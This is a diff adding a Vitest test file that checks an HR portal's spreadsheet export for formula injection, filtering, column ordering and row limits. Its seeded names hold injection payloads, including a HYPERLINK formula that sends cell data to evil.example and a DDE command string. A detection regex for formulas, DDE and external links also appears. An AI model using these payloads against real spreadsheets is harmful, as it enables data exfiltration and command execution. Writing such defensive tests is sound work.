@@ -1,0 +1,93 @@
+import { inflateRawSync } from 'node:zlib'
+import { sql } from 'kysely'
+import { readXlsx, writeXlsx } from 'hucre/xlsx'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { leaveList, leaveRequest } from '#shared/requests/leave-request.ts'
+import { loan } from '#shared/requests/loan.ts'
+import { openStage, type Person, type Stage } from './cast.ts'
+import { openTargets } from './rights-targets.ts'
+
+let stage: Stage
+const evil = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"]
+
+beforeAll(async () => {
+  stage = await openStage()
+  const targets = openTargets(stage)
+  for (const person of ['amina', 'joko', 'hadi', 'carla', 'dewi', 'farah', 'budi'] as const) {
+    targets.spend(await targets.waiting('leave-request', person))
+    await targets.waiting('loan', person)
+  }
+  targets.spend(await targets.entry('leave-request', 'amina'))
+  for (const [index, person] of (['amina', 'joko', 'hadi', 'carla', 'dewi', 'farah', 'budi'] as const).entries())
+    await sql`update employee set display_name = ${evil[index]} where user_name = ${person}`.execute(stage.portal.database.db)
+})
+afterAll(() => stage.close())
+
+const exported = async (body: object, by: Person = 'indra') => stage.as(by).request({ method: 'POST', url: '/api/x/leave-request/export', payload: body })
+/** The cells of the first sheet as a program that opens the file reads them. */
+const cellsOf = async (bytes: Buffer) => ((await readXlsx(bytes)).sheets[0]?.rows ?? []) as unknown[][]
+const columnOf = (rows: unknown[][], heading: string) => rows.slice(1).map((row) => row[(rows[0] ?? []).indexOf(heading)])
+
+/** Every part of a ZIP archive, unpacked, as text. */
+function partsOf(bytes: Buffer): Map<string, string> {
+  const parts = new Map<string, string>()
+  for (let at = bytes.lastIndexOf('PK\x05\x06') && bytes.readUInt32LE(bytes.lastIndexOf('PK\x05\x06') + 16); bytes.toString('latin1', at, at + 4) === 'PK\x01\x02'; ) {
+    const [packed, size, nameLength, more, comment, local] = [bytes.readUInt16LE(at + 10), bytes.readUInt32LE(at + 20), bytes.readUInt16LE(at + 28), bytes.readUInt16LE(at + 30), bytes.readUInt16LE(at + 32), bytes.readUInt32LE(at + 42)]
+    const start = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28)
+    const body = bytes.subarray(start, start + size)
+    parts.set(bytes.toString('utf8', at + 46, at + 46 + nameLength), (packed ? inflateRawSync(body) : body).toString())
+    at += 46 + nameLength + more + comment
+  }
+  return parts
+}
+/** Where a workbook would compute something or reach outside. */
+const dangers = (bytes: Buffer) => [...partsOf(bytes)].flatMap(([name, text]) => (/<f[ >/]|<ddeLink|externalLink|vbaProject|TargetMode="External"/.test(text) ? [name] : []))
+
+describe('an export', () => {
+  it('has no formula: what begins with =, +, -, @, TAB or CR is text', async () => {
+    const { raw, headers, status } = await exported({})
+    expect([status, headers['content-type']]).toEqual([200, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'])
+    expect(headers['content-disposition']).toMatch(/^attachment; .*\.xlsx/)
+    expect(dangers(raw)).toEqual([])
+    const people = columnOf(await cellsOf(raw), 'Employee').map(String)
+    expect(new Set(people.map((text) => text.slice(0, 1)))).toEqual(new Set(["'"]))
+    for (const text of evil) expect(people.some((cell) => cell.includes(text.trim().replaceAll('\r', '')))).toBe(true)
+    // The look for formulas finds one where there is one.
+    expect(dangers(Buffer.from(await writeXlsx({ sheets: [{ name: 'x', rows: [[1]], cells: new Map([['0,0', { formula: '1+1' }]]) }] })))).not.toEqual([])
+  })
+
+  it('holds exactly what is filtered, in the order that is shown, whole', async () => {
+    for (const body of [{}, { usingStatusFilter: true, status: [0] }, { status: [1], sortingColumn: 'code', sortingDirection: 0 }, { filterSearch: '=cmd' }, { scope: 'mine' }, { startDateFrom: '2199/01/01' }])
+      for (const by of ['indra', 'dewi', 'joko'] as const) {
+        const shown = (await stage.as(by).call(leaveRequest.calls.list, { ...body, paginationSize: 100 } as never)).body.listData.map((row) => row.code)
+        const cells = await cellsOf((await exported({ ...body, paginationSize: 1, paginationPage: 2 }, by)).raw)
+        expect([by, body, columnOf(cells, 'Code')]).toEqual([by, body, shown])
+      }
+  })
+
+  it('has the chosen columns in the list’s order, whatever is asked', async () => {
+    const headings = async (columns?: string[]) => (await cellsOf((await exported({ columns })).raw))[0]
+    expect(await headings(['days', 'code'])).toEqual(['Code', 'Days'])
+    expect(await headings(['code', 'form', 'requestorId', '__proto__', 'bytes'])).toEqual(['Code'])
+    expect((await headings())?.length).toBe(Object.values(leaveList.columns).filter((column) => !column.hidden).length)
+    expect((await exported({ columns: Array.from({ length: 61 }, () => 'code') })).status).toBe(400)
+  })
+
+  it('keeps exact amounts', async () => {
+    const { raw } = await stage.as('indra').request({ method: 'POST', url: `/api${loan.calls.export.path}`, payload: {} })
+    expect(columnOf(await cellsOf(raw), 'Amount')).toEqual(Array.from({ length: 7 }, () => 100))
+  })
+
+  it('holds at most 50,000 rows, in bounded memory and time', { timeout: 60_000 }, async () => {
+    await sql`
+      insert into request (id, code, module, author_id, requestor_id, subject_id, status_id, transaction_date, form, starts_on, ends_on, quantity, type_id)
+      select gen_random_uuid(), 'LV-X-' || n, 'LeaveRequest', ${stage.id.amina}, ${stage.id.amina}, ${stage.id.amina}, 4, '2020-01-01', '{}', '2020-01-01', '2020-01-01', 1, ${stage.portal.company.leave.annual}
+      from generate_series(1, 50010) n`.execute(stage.portal.database.db)
+    const [memory, started] = [process.memoryUsage().rss, Date.now()]
+    const { raw } = await exported({ filterSearch: 'LV-X-', columns: ['code', 'days'] })
+    const sheet = partsOf(raw).get('xl/worksheets/sheet1.xml') ?? ''
+    expect(sheet.match(/<row /g)).toHaveLength(50_001)
+    expect(Date.now() - started).toBeLessThan(20_000)
+    expect(process.memoryUsage().rss - memory).toBeLessThan(600 * 1024 * 1024)
+  })
+})
